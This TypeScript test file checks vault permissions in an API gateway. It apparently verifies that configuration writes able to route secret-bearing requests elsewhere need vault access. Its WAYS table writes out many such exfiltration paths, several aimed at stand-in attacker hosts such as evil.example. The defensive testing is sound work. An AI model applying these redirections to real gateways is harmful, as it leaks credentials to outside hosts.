import t, { type Test } from 'tap'
import { ManualClock } from '../helpers/clock.js'
import { make, openAccount, pathIn } from './account.js'
import { type Ask, word } from './asking.js'

const SECRET = "${secrets.get('prod', 'db')}"
const adding = (value: string) => ({ type: 'add-headers', config: { headers: { 'x-api-token': value } } })
const asking = (url: string) => ({ type: 'http-request', config: { url, headers: { 'x-api-token': SECRET } } })
const leading = (url: string) => ({ type: 'forward-internal', config: { url } })
const policy = (...actions: object[]) => ({ value: JSON.stringify({ on_http_request: [{ actions }] }) })
const READS = policy(adding(SECRET))
const PLAIN = policy(adding('1'))
const ECHO = {
  value: JSON.stringify({
    on_http_request: [{ actions: [leading('https://reads.internal')] }],
    on_http_response: [{ actions: [adding("${req.headers['x-api-token'][0]}")] }]
  })
}

/** An account whose administrator has made every way of a secret; ann may use the vault, bea may not. */
async function open(t: Test) {
  const { ask } = await openAccount(t, { clock: new ManualClock() })
  const caller = async (name: string) => {
    const bot = await make(ask, '/bot_users', { name })
    const { token: key } = await make(ask, '/api_keys', { owner_id: bot.id })
    const as: Ask = (path, asked = {}) => ask(path, { ...asked, key })
    return { id: bot.id as string, ask: as }
  }
  const [ann, bea] = [await caller('ann'), await caller('bea')]
  const vault = await make(ask, '/vaults', { name: 'prod', usable_by: [ann.id] })
  await make(ask, '/vault_secrets', { vault_id: vault.id, name: 'db', value: 'hunter2' })
  const server = async (port: number) => (await make(ask, '/backends/static', { address: `10.0.0.1:${port}` })).id
  const [good, other, inner, spare, asked, aside] = [
    await server(1),
    await server(2),
    await server(3),
    await server(4),
    await server(5),
    await server(6)
  ]
  const weighted = (await make(ask, '/backends/weighted', { backends: { [good]: 1, [spare]: 0 } })).id
  const failover = (await make(ask, '/backends/failover', { backends: [weighted] })).id
  const group = (await make(ask, '/backends/tunnel_group', { labels: { app: 'web' } })).id
  const fixed = (await make(ask, '/backends/http_response', { body: 'closed' })).id
  const edge = async (host: string) => (await make(ask, '/edges/https', { hostports: [`${host}:443`] })).id as string
  const route = async (edge: string, match: string, backend: string | null, traffic_policy: object | null) => {
    const body = { match, traffic_policy, ...(backend === null ? {} : { backend: { backend_id: backend } }) }
    return pathIn((await make(ask, `/edges/https/${edge}/routes`, body)).uri)
  }
  const front = await edge('app.example.com')
  const [shop, leads, reads, hooks, free] = [
    await edge('shop.example.com'),
    await edge('leads.internal'),
    await edge('reads.internal'),
    await edge('hooks.internal'),
    await edge('free.internal')
  ]
  const routes = {
    direct: await route(front, '/direct', good, READS),
    weighted: await route(front, '/weighted', weighted, READS),
    failover: await route(front, '/failover', failover, READS),
    group: await route(front, '/group', group, READS),
    leads: await route(front, '/leads', null, policy(adding(SECRET), leading('https://leads.internal'))),
    asks: await route(front, '/asks', other, policy(asking('https://hooks.internal/${req.url.path}'))),
    switched: await route(front, '/off', other, { ...READS, enabled: false }),
    caller: await route(front, '/caller', null, policy(leading('https://reads.internal'))),
    asker: await route(
      front,
      '/asker',
      spare,
      policy({ type: 'http-request', config: { url: 'https://reads.internal/x' } })
    ),
    plain: await route(front, '/plain', aside, PLAIN),
    gateway: await route(front, '/gateway', null, policy(leading('https://free.internal'))),
    inner: await route(leads, '/', inner, PLAIN),
    calls: await route(front, '/calls', good, policy(asking('https://shop.example.com/x'))),
    shop: await route(shop, '/', asked, PLAIN),
    reads: await route(reads, '/', good, READS),
    hooks: await route(hooks, '/', asked, null),
    free: await route(free, '/', aside, PLAIN)
  }
  const tcp = await make(ask, '/edges/tcp', {
    backend: { backend_id: good },
    traffic_policy: {
      value: JSON.stringify({
        on_tcp_connect: [{ expressions: ["secrets.get('prod', 'db') == 'x'"], actions: [{ type: 'deny' }] }]
      })
    }
  })
  const backends = { good, other, inner, spare, asked, aside, weighted, failover, group, fixed }
  return { ask, ann, bea, backends, routes, edges: { front, shop, leads, reads, hooks, free }, tcp: pathIn(tcp.uri) }
}

type World = Awaited<ReturnType<typeof open>>
type Write = readonly [method: string, path: string, body?: object]

const backend = (id: string) => ({ backend_id: id })

/** Every way in which a write sends secrets to somewhere else. */
const WAYS: Readonly<Record<string, (world: World) => Write>> = {
  'address of a server': ({ backends: { good } }) => [
    'PATCH',
    `/backends/static/${good}`,
    { address: 'evil.example:1' }
  ],
  'TLS to a server': ({ backends: { good } }) => [
    'PATCH',
    `/backends/static/${good}`,
    { tls: { enabled: true, server_name: 'x.example' } }
  ],
  'service of the DNS': ({ backends: { good } }) => [
    'PATCH',
    `/backends/static/${good}`,
    { address: '_http._tcp.evil.example' }
  ],
  'backend of a route': ({ routes, backends }) => ['PATCH', routes.direct, { backend: backend(backends.other) }],
  'module of a route': ({ routes, backends }) => ['PUT', `${routes.direct}/backend`, backend(backends.other)],
  'host that the server sees': ({ routes }) => [
    'PUT',
    `${routes.direct}/request_headers`,
    { add: { host: 'x.example' } }
  ],
  'path of a route': ({ routes }) => ['PATCH', routes.direct, { match: '/' }],
  'login of a route': ({ routes }) => ['PUT', `${routes.direct}/user_agent_filter`, { deny: ['x'] }],
  'text of a policy': ({ routes }) => ['PUT', `${routes.direct}/traffic_policy`, policy(adding(SECRET), adding('1'))],
  'member of a weighted backend': ({ backends: { weighted, good, other } }) => [
    'PATCH',
    `/backends/weighted/${weighted}`,
    { backends: { [good]: 1, [other]: 1 } }
  ],
  'idle member of a weighted backend': ({ backends: { weighted, good, other } }) => [
    'PATCH',
    `/backends/weighted/${weighted}`,
    { backends: { [good]: 1, [other]: 0 } }
  ],
  'weight of an idle member': ({ backends: { weighted, good, spare } }) => [
    'PATCH',
    `/backends/weighted/${weighted}`,
    { backends: { [good]: 1, [spare]: 1 } }
  ],
  'server behind two groups': ({ backends: { spare } }) => [
    'PATCH',
    `/backends/static/${spare}`,
    { address: 'evil.example:1' }
  ],
  'member of a failover backend': ({ backends: { failover, weighted, other } }) => [
    'PATCH',
    `/backends/failover/${failover}`,
    { backends: [weighted, other] }
  ],
  'labels of tunnels': ({ backends: { group } }) => [
    'PATCH',
    `/backends/tunnel_group/${group}`,
    { labels: { app: 'evil' } }
  ],
  'hosts of an edge': ({ edges }) => ['PATCH', `/edges/https/${edges.front}`, { hostports: ['evil.example.com:443'] }],
  'more hosts of an edge': ({ edges }) => [
    'PATCH',
    `/edges/https/${edges.front}`,
    { hostports: ['app.example.com:443', 'evil.example.com:443'] }
  ],
  'backend of a TCP edge': ({ tcp, backends }) => ['PATCH', tcp, { backend: backend(backends.other) }],
  'port of a TCP edge': ({ tcp }) => ['PATCH', tcp, { hostports: ['evil.internal:9000'] }],
  'server behind an internal edge': ({ backends: { inner } }) => [
    'PATCH',
    `/backends/static/${inner}`,
    { address: 'evil.example:1' }
  ],
  'backend of an internal route': ({ routes, backends }) => ['PUT', `${routes.inner}/backend`, backend(backends.other)],
  'policy of an internal route': ({ routes }) => [
    'PUT',
    `${routes.inner}/traffic_policy`,
    policy(asking('https://evil.example/'))
  ],
  'new internal route': ({ edges, backends }) => [
    'POST',
    `/edges/https/${edges.leads}/routes`,
    { match: '/x', backend: backend(backends.other) }
  ],
  'internal host on another edge': ({ edges }) => [
    'PATCH',
    `/edges/https/${edges.free}`,
    { hostports: ['leads.internal:8443'] }
  ],
  'server that a policy asks': ({ backends: { asked } }) => [
    'PATCH',
    `/backends/static/${asked}`,
    { address: 'evil.example:1' }
  ],
  'backend of a route that a policy asks': ({ routes, backends }) => [
    'PUT',
    `${routes.hooks}/backend`,
    backend(backends.other)
  ],
  'policy of an edge that a policy asks': ({ routes }) => [
    'PUT',
    `${routes.shop}/traffic_policy`,
    policy(asking('https://evil.example/'))
  ],
  'edge of a host that a policy asks': ({ edges }) => [
    'PATCH',
    `/edges/https/${edges.free}`,
    { hostports: ['shop.example.com:8443'] }
  ],
  'policy in front of an internal reader': ({ routes }) => ['PUT', `${routes.caller}/traffic_policy`, ECHO],
  'new route to an internal reader': ({ edges }) => [
    'POST',
    `/edges/https/${edges.front}/routes`,
    { match: '/new', traffic_policy: policy(leading('https://reads.internal')) }
  ],
  'new route to an internal host of the request': ({ edges }) => [
    'POST',
    `/edges/https/${edges.front}/routes`,
    { match: '/new', traffic_policy: policy(leading('https://${req.headers.x[0]}.internal')) }
  ],
  'new request to an internal reader': ({ edges, backends }) => [
    'POST',
    `/edges/https/${edges.front}/routes`,
    {
      match: '/new',
      backend: backend(backends.other),
      traffic_policy: policy({ type: 'http-request', config: { url: 'https://reads.internal/${req.url.path}' } })
    }
  ],
  'backend of a route that asks an internal reader': ({ routes, backends }) => [
    'PUT',
    `${routes.asker}/backend`,
    backend(backends.other)
  ],
  'switching a policy on': ({ routes }) => ['PATCH', routes.switched, { traffic_policy: { ...READS, enabled: true } }],
  'vault known at run time': ({ edges }) => [
    'POST',
    `/edges/https/${edges.front}/routes`,
    { match: '/new', traffic_policy: policy(adding("${secrets.get('prod', req.headers.x[0])}")) }
  ]
}

/** Writes of a member that touch no secret, or take a way of one away. */
const HARMLESS: Readonly<Record<string, (world: World) => Write>> = {
  'description of a server': ({ backends: { good } }) => ['PATCH', `/backends/static/${good}`, { description: 'x' }],
  'checks of a server': ({ backends: { good } }) => ['PATCH', `/backends/static/${good}`, { health: { interval: 9 } }],
  'description of a route': ({ routes }) => ['PATCH', routes.direct, { description: 'x' }],
  'the same policy again': ({ routes }) => ['PATCH', routes.direct, { traffic_policy: READS }],
  'compression of a route': ({ routes }) => ['PUT', `${routes.direct}/compression`, {}],
  'less of a group': ({ backends: { weighted, good } }) => [
    'PATCH',
    `/backends/weighted/${weighted}`,
    { backends: { [good]: 7 } }
  ],
  'a fixed response in place of servers': ({ routes, backends }) => [
    'PUT',
    `${routes.direct}/backend`,
    backend(backends.fixed)
  ],
  'no backend': ({ routes }) => ['DELETE', `${routes.direct}/backend`],
  'no policy': ({ routes }) => ['DELETE', `${routes.direct}/traffic_policy`],
  'no route': ({ routes }) => ['DELETE', routes.direct],
  'route without secrets': ({ routes, backends }) => ['PUT', `${routes.plain}/backend`, backend(backends.good)],
  'server without secrets': ({ backends: { aside } }) => [
    'PATCH',
    `/backends/static/${aside}`,
    { address: 'new.example:1' }
  ],
  'internal route without secrets': ({ routes, backends }) => [
    'PUT',
    `${routes.free}/backend`,
    backend(backends.spare)
  ],
  'policy in front of it': ({ routes }) => [
    'PUT',
    `${routes.gateway}/traffic_policy`,
    policy(adding('2'), leading('https://free.internal'))
  ],
  'new route beside': ({ edges, backends }) => [
    'POST',
    `/edges/https/${edges.front}/routes`,
    { match: '/direct/beside', backend: backend(backends.other), traffic_policy: PLAIN }
  ],
  'request to a public reader': ({ routes }) => [
    'PUT',
    `${routes.plain}/traffic_policy`,
    policy({ type: 'http-request', config: { url: 'https://app.example.com/direct' } })
  ],
  'new edge': () => ['POST', '/edges/https', { hostports: ['mine.example.com:443'] }]
}

/** The account of the tests that leave it as it was. */
const shared = open(t)

const done = (ask: Ask, [method, path, body]: Write, query = '') =>
  ask(`${path}${query}`, { method, ...(body === undefined ? {} : { body }) })

t.test('whoever sends secrets to somewhere else needs the right to their vault, whatever the way', async (t) => {
  const world = await shared
  for (const [name, way] of Object.entries(WAYS)) {
    const write = way(world)
    const refused = await done(world.bea.ask, write)
    t.equal(refused.status, 403, `${name}: ${refused.text}`)
    t.equal(word(t, refused), 'VAULT_NOT_ALLOWED', name)
    t.match(refused.json.msg, /vault "prod".*usable_by/, name)
    for (const [who, ask] of [
      ['one who may', world.ann.ask],
      ['an administrator', world.ask]
    ] as const) {
      const answer = await done(ask, write, '?dry_run=true')
      t.ok(answer.status < 300, `${name} by ${who}: ${answer.text}`)
    }
  }
  t.match((await world.ask(world.routes.direct)).json, {
    match: '/direct',
    backend: { backend: { id: world.backends.good } }
  })
})

t.test('what touches no secret, and what takes a way away, is any member’s to write', async (t) => {
  const world = await shared
  for (const [name, way] of Object.entries(HARMLESS)) {
    const answer = await done(world.bea.ask, way(world), '?dry_run=true')
    t.ok(answer.status < 300, `${name}: ${answer.text}`)
  }
})

t.test('a revert sends secrets nowhere where the caller may not', async (t) => {
  const world = await open(t)
  const { ask, ann, bea, routes, backends } = world
  const reverts: [string, Write][] = [
    ['another address', ['PATCH', `/backends/static/${backends.good}`, { address: 'new.example:1' }]],
    ['a route that is gone', ['DELETE', routes.weighted]],
    ['a policy that is gone', ['DELETE', `${routes.failover}/traffic_policy`]],
    ['another backend', ['PUT', `${routes.direct}/backend`, backend(backends.other)]],
    ['a backend that is gone', ['DELETE', `${routes.group}/backend`]]
  ]
  for (const [name, write] of reverts) {
    const { status, headers } = await done(ask, write)
    t.ok(status < 300, name)
    const revert = (as: Ask, query = '') =>
      as(`/revisions/${headers['service-revision']}/revert${query}`, { method: 'POST' })
    t.equal(word(t, await revert(bea.ask)), 'VAULT_NOT_ALLOWED', name)
    t.equal((await revert(ann.ask, '?dry_run=true')).status, 200, name)
    t.equal((await revert(ask, '?dry_run=true')).status, 200, name)
  }
  const harmless = await done(bea.ask, ['PATCH', routes.plain, { description: 'x' }])
  t.equal((await bea.ask(`/revisions/${harmless.headers['service-revision']}/revert`, { method: 'POST' })).status, 200)
})

t.test('the site file is the administrators’, whatever it would send where', async (t) => {
  const { bea, ann } = await shared
  for (const { ask } of [ann, bea]) {
    t.equal(word(t, await ask('/site', { method: 'PUT', body: {} })), 'ADMIN_REQUIRED')
    t.equal(word(t, await ask('/site', { method: 'DELETE' })), 'ADMIN_REQUIRED')
  }
})

t.test('a vault that opens to all members, and closes again', async (t) => {
  const world = await shared
  const [vault] = (await world.ask('/vaults')).json.vaults
  const may = (usable_by: string[]) => world.ask(pathIn(vault.uri), { method: 'PATCH', body: { usable_by } })
  const write = WAYS['address of a server']?.(world) as Write
  await may(['members'])
  t.equal((await done(world.bea.ask, write, '?dry_run=true')).status, 200)
  await may([])
  t.equal(word(t, await done(world.ann.ask, write)), 'VAULT_NOT_ALLOWED')
  await may([world.ann.id])
})
